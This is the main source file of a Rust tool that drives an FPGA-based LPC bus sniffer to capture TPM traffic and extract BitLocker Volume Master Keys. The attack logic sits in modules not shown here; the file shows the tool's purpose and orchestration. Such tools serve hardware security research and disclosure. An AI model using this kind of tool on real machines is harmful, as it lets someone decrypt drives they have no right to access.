//! LPC TPM Sniffer
//!
//! Captures LPC bus traffic from an iCEstick/iCEBreaker LPC sniffer over its
//! FTDI serial interface, rebuilds the TPM byte stream and extracts the
//! BitLocker Volume Master Key (VMK) when it crosses the bus.

mod capture;
mod completion;
mod config;
mod error;
mod extract;
mod key;

use anyhow::{bail, Result};
use tracing::{error, info};
use tracing_subscriber::EnvFilter;

use capture::{open_device, CaptureProducer};
use completion::CompletionFlag;
use config::Config;
use extract::ExtractorRunner;

fn main() -> Result<()> {
    // Initialize logging
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .with_target(false)
        .init();

    info!("===========================================");
    info!("   iCE LPC TPM Sniffer v{}", env!("CARGO_PKG_VERSION"));
    info!("   Extracts BitLocker Volume Master Keys");
    info!("===========================================");

    let config = Config::from_env();

    info!("Configuration:");
    info!("  Device: {}", config.device_path);
    info!("  Baud rate: {}", config.baud_rate);
    info!("  Read size: {} bytes", config.read_size);
    info!("  Queue capacity: {} chunks", config.queue_capacity);
    info!("  VMK file: {}", config.vmk_file.display());

    let source = match open_device(&config.device()) {
        Ok(source) => source,
        Err(e) => {
            error!("{}", e);
            error!("Make sure the sniffer is connected and its FTDI interface is available.");
            return Err(e.into());
        }
    };

    let done = CompletionFlag::new();

    let mut producer = CaptureProducer::new(config.producer(), done.clone());
    let queue = producer.start(source)?;

    let runner = ExtractorRunner::new(
        done.clone(),
        producer.stats().clone(),
        config.vmk_file.clone(),
        config.poll_interval(),
    );
    let outcome = runner.run(queue);

    // Let the capture thread see the flag (or the closed queue) and release the device
    producer.join();

    match outcome? {
        Some(_) => {
            info!(
                "Shutdown complete. Bytes captured: {}, TPM bytes recovered: {}",
                producer.stats().get_bytes_read(),
                producer.stats().get_clean_bytes()
            );
            Ok(())
        }
        None => bail!("capture ended before the VMK was found"),
    }
}
